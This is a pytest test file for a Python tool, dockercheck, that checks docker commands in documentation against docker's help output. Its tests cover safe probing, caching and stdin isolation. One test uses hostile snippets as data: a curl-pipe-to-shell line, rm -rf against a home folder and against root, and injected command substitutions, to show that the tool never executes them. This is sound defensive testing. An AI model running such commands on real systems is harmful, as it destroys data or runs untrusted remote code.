"""Where docker's help comes from: the live docker (safely, cached), or the snapshot."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

import oracle
from dockercheck import check_document, load_grammar
from dockercheck.grammar import Grammar
from dockercheck.profile import BOGUS_HOST
from dockercheck.sources import SNAPSHOT_VERSION, LiveDocker, Snapshot, SourceError, classify_probe
from fakedocker import FAKE_VERSION, SNAPSHOT_FILE, assert_docker_argv, logging_docker, make_docker, python_fake


@pytest.fixture
def fake_docker(tmp_path, monkeypatch):
    """A docker answering from the snapshot (fakedocker.python_fake) that logs every run."""
    real = make_docker(tmp_path / "real", python_fake()) / "docker"
    log = tmp_path / "docker.log"
    script = logging_docker(tmp_path / "bin", str(real), log) / "docker"
    monkeypatch.setenv("DOCKER_HOST", "tcp://198.51.100.7:2375")  # must never reach docker
    monkeypatch.setenv("DOCKER_CONTEXT", "remote")

    def calls() -> list[dict]:
        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []

    return script, calls, tmp_path / "cache"


def test_live_help_is_fetched_safely_then_cached(fake_docker):
    script, calls, cache = fake_docker
    text = "```sh\ndocker ps -a\ndocker container ls --format x\ndocker run --net host nginx\n```\n"
    grammar = load_grammar(
        "live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]]
    )
    assert grammar.kind == "live" and grammar.version == FAKE_VERSION
    report = check_document(grammar, text, "p.md")
    assert [f.code for f in report.findings] == ["DC101"]  # --net: hidden, docker says it exists
    grammar.source.save()
    first = calls()
    asked = sorted(tuple(c["argv"]) for c in first)  # fetched in parallel: any order
    assert asked == sorted(
        [
            ("--version",),
            ("--help",),
            ("ps", "--help"),
            ("container", "--help"),
            ("run", "--help"),
            ("container", "ls", "--help"),
            ("container", "run", "--help", "--net"),
        ]
    )
    for call in first:
        assert_docker_argv(call["argv"])
        assert call["host"] == BOGUS_HOST  # the user's DOCKER_HOST never reaches docker
        assert call["entries"] == [] and call["stdin"] == "" and not call["stdin_tty"]
    # a second process: everything from the disk cache, docker not run at all
    again = load_grammar(
        "live", executable=str(script), cache_dir=cache, prefetch=[["ps"], ["container", "ls"], ["run"]]
    )
    check_document(again, text, "p.md")
    assert len(calls()) == len(first)
    assert "disk cache" in again.describe()
    assert list(cache.glob(f"docker-{FAKE_VERSION}-*.json"))


def test_the_snapshots_own_version_is_asked_only_for_its_version(tmp_path):
    """docker 28.2.2 without plugins: its help is the snapshot's; one call, then none."""
    log = tmp_path / "docker.log"
    real = make_docker(tmp_path / "real", python_fake(version=SNAPSHOT_VERSION)) / "docker"
    script = logging_docker(tmp_path / "bin", str(real), log) / "docker"
    text = "```sh\ndocker ps -a\ndocker run --net host nginx\ndocker rnu x\n```\n"
    words = [["ps", "-a"], ["run"], ["rnu"]]
    grammar = load_grammar("live", executable=str(script), cache_dir=tmp_path / "cache", prefetch=words)
    assert [f.code for f in check_document(grammar, text, "p.md").findings] == ["DC101", "DC001"]
    grammar.source.save()
    assert [json.loads(line)["argv"] for line in log.read_text().splitlines()] == [["--version"]]
    assert grammar.kind == "live" and "the snapshot's version: its help is the snapshot's" in grammar.describe()
    (cached,) = (tmp_path / "cache").glob("docker-*.json")
    assert json.loads(cached.read_text())["help"] == {}  # the snapshot is not copied into the cache
    again = load_grammar("live", executable=str(script), cache_dir=tmp_path / "cache", prefetch=words)
    assert [f.code for f in check_document(again, text, "p.md").findings] == ["DC101", "DC001"]
    assert len(log.read_text().splitlines()) == 1  # the second run does not run docker at all


def test_a_docker_with_plugins_is_asked_even_at_the_snapshots_version(tmp_path, monkeypatch):
    """CLI plugins change the help (docker --help lists them): the snapshot cannot stand in."""
    log = tmp_path / "docker.log"
    real = make_docker(tmp_path / "real", python_fake(version=SNAPSHOT_VERSION)) / "docker"
    script = logging_docker(tmp_path / "bin", str(real), log) / "docker"
    plugins = tmp_path / "config" / "cli-plugins"
    plugins.mkdir(parents=True)
    (plugins / "docker-compose").write_text("#!/bin/sh\n")
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "config"))
    live = LiveDocker(str(script), cache_dir=tmp_path / "cache", config_dir=str(tmp_path / "config"))
    live.help(("ps",))
    assert [json.loads(line)["argv"] for line in log.read_text().splitlines()] == [["--version"], ["ps", "--help"]]


def test_snippets_never_run_and_docker_is_asked_only_about_its_own_tree(fake_docker, tmp_path):
    script, calls, cache = fake_docker
    canary = tmp_path / "canary"
    home = tmp_path / "home"
    home.mkdir()
    (home / "keep").write_text("x")
    snippets = [
        f"docker run $(touch {canary}1) img",
        f"docker run `touch {canary}2` img",
        f"docker ps; rm -rf {home}",
        "curl http://example.invalid/x | sh; docker ps",
        f"docker $(touch {canary}3) --help",
        f'eval "$(touch {canary}4)"; docker --definitely-not-a-flag',
        f"docker run --$(touch {canary}5) img",
        f"docker run -$(touch {canary}6) img",
        "docker ps --format '{{.Names}}'; docker rnu -p 80",
        "docker container 'ls; touch /tmp/x'",
        f"docker exec -it web sh -c 'touch {canary}7'",
    ]
    text = "```sh\n" + "\n".join(snippets) + "\n```\n"
    grammar = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[])
    report = check_document(grammar, text, "p.md")
    assert len(report.invocations) >= 10
    for call in calls():
        assert_docker_argv(call["argv"])
    assert not list(tmp_path.glob("canary*"))
    assert (home / "keep").exists()


def test_missing_docker_falls_back_to_the_snapshot(tmp_path):
    grammar = load_grammar("auto", executable=str(tmp_path / "no-docker"), cache_dir=tmp_path)
    assert grammar.kind == "snapshot"
    assert "live docker unusable" in grammar.describe()
    with pytest.raises(SourceError):
        load_grammar("live", executable=str(tmp_path / "no-docker"), cache_dir=tmp_path)


def test_refuses_to_ask_about_words_that_are_not_command_names(fake_docker):
    script, calls, cache = fake_docker
    live = LiveDocker(str(script), cache_dir=cache)
    with pytest.raises(SourceError):
        live.help(("ps;", "rm"))
    assert live.probe(("ps",), "--x; rm -rf /") is not None and not live.probe(("ps",), "--x; rm").exists
    assert [c["argv"] for c in calls()] == [["--version"]]


@pytest.mark.parametrize(
    "code, output, exists, takes_value, deprecated",
    [
        (125, "unknown flag: --bogus\n\nUsage: ...", False, False, None),
        (125, "unknown shorthand flag: 'x' in -x\n", False, False, None),
        (125, "flag needs an argument: --net\n\nUsage:  docker run", True, True, None),
        (0, "Flag shorthand -h has been deprecated, use --help\nUsage:  docker rm", True, False, "use --help"),
        (0, "Usage:  docker ps [OPTIONS]\n", True, False, None),
    ],
)
def test_probe_answers(code, output, exists, takes_value, deprecated):
    probe = classify_probe(code, output)
    assert (probe.exists, probe.takes_value, probe.deprecated) == (exists, takes_value, deprecated)
    assert classify_probe(1, "garbage") is None


def test_prefetch_asks_only_for_what_the_docs_use(fake_docker):
    script, calls, cache = fake_docker
    grammar = Grammar(LiveDocker(str(script), cache_dir=cache))
    grammar.prefetch([["ps", "-a"], ["image", "ls"], ["image", "list"], ["--debug", "network", "create", "x"]])
    asked = {" ".join(c["argv"][:-1]) for c in calls() if c["argv"][-1] == "--help"}
    image_children = {f"image {r.name}" for r in grammar.command(("image",)).subcommands}
    # 'list' is an alias: every child of image is looked at to find it
    assert asked == {"", "ps", "image", "network", "network create"} | image_children


def test_prefetch_walks_each_word_list_once(monkeypatch):
    """A rebuild repeats the site's commands: they are not walked again, new ones are."""
    grammar = Grammar(Snapshot.load())
    walked = []
    load = grammar._load
    monkeypatch.setattr(grammar, "_load", lambda paths: (walked.append(list(paths)), load(walked[-1])))
    grammar.prefetch([["ps", "-a"], ["image", "ls"]])
    assert walked
    walked.clear()
    grammar.prefetch([["image", "ls"], ["ps", "-a"]])
    assert walked == []
    grammar.prefetch([["image", "ls"], ["network", "create", "x"]])
    assert ["network"] in [[p[0] for p in paths] for paths in walked]
    assert grammar.command(("network", "create")).path == ("network", "create")


@pytest.mark.slow
def test_the_snapshot_is_what_this_docker_says(tmp_path):
    """With docker 28.2.2 here, regenerating the snapshot changes nothing."""
    version = oracle.docker_version()
    if version != SNAPSHOT_VERSION:
        if oracle.ci():
            pytest.fail(f"CI should have docker {SNAPSHOT_VERSION}, found {version}")
        pytest.skip(f"docker {version} here, the snapshot is {SNAPSHOT_VERSION}")
    output = tmp_path / "snapshot.json"
    subprocess.run([sys.executable, "-m", "dockercheck.snapshot", "--output", str(output)], check=True, timeout=300)
    assert json.loads(output.read_text()) == json.loads(SNAPSHOT_FILE.read_text())


@pytest.mark.parametrize(
    "damage",
    [
        "not json",
        "[]",
        '{"identity": "ID", "docker_version": 28, "help": {}}',
        '{"identity": "ID", "docker_version": "28.2.2", "help": []}',
        '{"identity": "ID", "docker_version": "28.2.2", "help": {"": 5}}',
        '{"identity": "ID", "docker_version": "28.2.2", "help": {"ps": "garbage"}}',
        '{"identity": "ID", "docker_version": "28.2.2", "help": {}, "probes": {"ps --x": {"nope": 1}}}',
        '{"identity": "ID", "docker_version": "28.2.2", "help": {}, "probes": {"ps --x": 3}}',
    ],
)
def test_a_damaged_cache_file_is_ignored(fake_docker, damage):
    script, _, cache = fake_docker
    live = LiveDocker(str(script), cache_dir=cache)  # learn the file name of this docker's cache
    identity = live.cache_file.stem.rsplit("-", 1)[-1]
    cache.mkdir(parents=True, exist_ok=True)
    live.cache_file.write_text(damage.replace("ID", identity))
    grammar = load_grammar("live", executable=str(script), cache_dir=cache, prefetch=[["ps"]])
    assert grammar.kind == "live" and "no cache yet" in grammar.describe()
    assert check_document(grammar, "```sh\ndocker ps extra\n```\n", "p.md").findings[0].code == "DC006"


# ---------------------------------------------------------------- the disk cache follows the docker binary


@pytest.fixture
def docker_on_path(tmp_path, monkeypatch):
    """A docker first on PATH (a logging wrapper around fakedocker.python_fake), its config folder, a cache.

    Returns (the docker on PATH, its config folder, run): ``run()`` loads the grammar as a build does
    (the live source, the disk cache, the help of ``docker ps``) and says whether it came from the disk
    cache and how many times docker ran.
    """
    real = make_docker(tmp_path / "real", python_fake()) / "docker"
    log = tmp_path / "docker.log"
    folder = logging_docker(tmp_path / "bin", str(real), log)
    config = tmp_path / "config"
    config.mkdir()
    monkeypatch.setenv("PATH", str(folder))
    monkeypatch.setenv("DOCKER_CONFIG", str(config))

    def run() -> tuple[bool, int]:
        before = len(log.read_text().splitlines()) if log.exists() else 0
        grammar = load_grammar("live", cache_dir=tmp_path / "cache", prefetch=[["ps"]])
        assert grammar.kind == "live", grammar.describe()
        ran = (len(log.read_text().splitlines()) if log.exists() else 0) - before
        return grammar.source.from_cache, ran

    return folder / "docker", config, run


def _keep_mtime(path, change) -> None:
    """Change a file with ``change(path)`` and give it back its modification time."""
    info = os.stat(path)
    change(path)
    os.utime(path, ns=(info.st_atime_ns, info.st_mtime_ns))
    assert os.stat(path).st_mtime_ns == info.st_mtime_ns


def _append(path, text: str = "\n# a byte more\n") -> None:
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(text)


def _plugin(config, name: str = "docker-frob", text: str = "#!/bin/sh\n"):
    plugins = config / "cli-plugins"
    plugins.mkdir(exist_ok=True)
    (plugins / name).write_text(text)
    return plugins / name


# What may change in the docker on PATH, and how: each alone (a change of size keeps the modification time, and
# the other way round), so that each is a part of the cache's key on its own.
CHANGES = {
    "docker's size": lambda docker, config: _keep_mtime(docker, _append),
    "docker's modification time": lambda docker, config: os.utime(
        docker, ns=(os.stat(docker).st_atime_ns, os.stat(docker).st_mtime_ns + 5_000_000_000)
    ),
    "a plugin added": lambda docker, config: _plugin(config, "docker-new"),
    "a plugin's size": lambda docker, config: _keep_mtime(config / "cli-plugins" / "docker-frob", _append),
    "a plugin's modification time": lambda docker, config: os.utime(
        config / "cli-plugins" / "docker-frob", ns=(0, 1_000_000_000)
    ),
    "a plugin removed": lambda docker, config: (config / "cli-plugins" / "docker-frob").unlink(),
}


@pytest.mark.parametrize("change", list(CHANGES))
def test_the_disk_cache_is_not_reused_when_the_docker_binary_changes(docker_on_path, change):
    docker, config, run = docker_on_path
    _plugin(config)  # a plugin that is there from the start
    assert run() == (False, 3)  # --version, --help, ps --help: asked, then saved
    assert run() == (True, 0)  # the same docker: the disk cache, docker not run at all
    CHANGES[change](docker, config)
    from_cache, ran = run()
    assert not from_cache and ran == 3, f"{change}: the cache of the docker before was used"
    assert run() == (True, 0)  # the new docker's answers are cached in turn


# ---------------------------------------------------------------- docker never reads the build's input

# A docker that records what its standard input is and what it could read from it, then answers as docker.
STDIN_SPY = """#!{python} -S
import json, os, sys
same = os.path.samestat(os.fstat(0), os.stat(os.devnull))
target = os.readlink("/proc/self/fd/0") if os.path.exists("/proc/self/fd/0") else "?"
os.set_blocking(0, False)
try:
    data = os.read(0, 4096).decode("utf-8", "replace")
except OSError:
    data = ""
with open({log!r}, "a", encoding="utf-8") as handle:
    handle.write(json.dumps({{"argv": sys.argv[1:], "devnull": same, "fd0": target, "read": data}}) + "\\n")
os.execv({real!r}, [{real!r}, *sys.argv[1:]])
"""
SITE_YML = "site_name: stdin\nhooks:\n  - {hook}\n"


@pytest.mark.parametrize("entry", ["dockercheck", "mkdocs build"])
def test_docker_gets_dev_null_not_the_builds_standard_input(tmp_path, entry):
    """The build's input is a pipe holding data: every docker run gets /dev/null instead, and reads nothing."""
    from fakedocker import ROOT, child_env

    real = make_docker(tmp_path / "real", python_fake()) / "docker"
    log = tmp_path / "docker.log"
    folder = make_docker(tmp_path / "bin", STDIN_SPY.format(python=sys.executable, log=str(log), real=str(real)))
    site = tmp_path / "site"
    (site / "docs").mkdir(parents=True)
    (site / "docs" / "index.md").write_text("# Page\n\n```sh\ndocker ps -a\ndocker run -it --rm ubuntu bash\n```\n")
    (site / "mkdocs.yml").write_text(SITE_YML.format(hook=ROOT / "hooks" / "check_commands.py"))
    argv = {
        "dockercheck": [sys.executable, "-m", "dockercheck", "--source", "live", "docs"],
        "mkdocs build": [sys.executable, "-m", "mkdocs", "build", "--strict"],
    }[entry]
    env = child_env(str(folder), tmp_path / "cache", DOCKERCHECK_SOURCE="live")
    data = "secret: the build's own input\n" * 50
    result = subprocess.run(argv, cwd=site, env=env, input=data, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr
    calls = [json.loads(line) for line in log.read_text().splitlines()]
    assert len(calls) >= 3  # --version, --help, ps --help, ...
    for call in calls:
        assert call["devnull"] and call["fd0"] == "/dev/null" and call["read"] == "", call


# ---------------------------------------------------------------- where the cache lives


@pytest.mark.parametrize(
    "env, expected",
    [
        ({"XDG_CACHE_HOME": "/xdg/cache"}, "/xdg/cache/dockercheck"),
        ({}, "/home/someone/.cache/dockercheck"),  # unset: ~/.cache
        ({"XDG_CACHE_HOME": ""}, "/home/someone/.cache/dockercheck"),  # empty is unset
        ({"XDG_CACHE_HOME": "relative/cache"}, "/home/someone/.cache/dockercheck"),  # relative: ignored (XDG)
        ({"XDG_CACHE_HOME": "/xdg/cache", "DOCKERCHECK_CACHE_DIR": "/mine"}, "/mine"),
    ],
)
def test_the_default_cache_folder_follows_xdg_cache_home(monkeypatch, env, expected):
    from dockercheck.sources import default_cache_dir

    monkeypatch.setenv("HOME", "/home/someone")
    for name in ("XDG_CACHE_HOME", "DOCKERCHECK_CACHE_DIR"):
        monkeypatch.delenv(name, raising=False)
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    assert str(default_cache_dir()) == expected


def test_the_live_source_saves_its_answers_under_xdg_cache_home(tmp_path, monkeypatch):
    """No cache folder given (as the hook and the command line run it): $XDG_CACHE_HOME/dockercheck/, private."""
    script = make_docker(tmp_path / "bin", python_fake()) / "docker"
    monkeypatch.delenv("DOCKERCHECK_CACHE_DIR", raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    load_grammar("live", executable=str(script), prefetch=[["ps"]])
    (saved,) = (tmp_path / "xdg" / "dockercheck").glob(f"docker-{FAKE_VERSION}-*.json")
    assert "ps" in json.loads(saved.read_text())["help"]
    assert (tmp_path / "xdg" / "dockercheck").stat().st_mode & 0o777 == 0o700
    assert not (tmp_path / "home").exists()
    monkeypatch.delenv("XDG_CACHE_HOME")
    again = LiveDocker(str(script))
    assert again.cache_file.parent == tmp_path / "home" / ".cache" / "dockercheck" and not again.from_cache


def test_the_jieba_cache_follows_xdg_cache_home_too(tmp_path, monkeypatch):
    from conftest import load_hook_module

    jieba_cache = load_hook_module("jieba_cache")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert jieba_cache.cache_folder() == tmp_path / "xdg" / "jieba"
    monkeypatch.delenv("XDG_CACHE_HOME")
    assert jieba_cache.cache_folder() == tmp_path / "home" / ".cache" / "jieba"
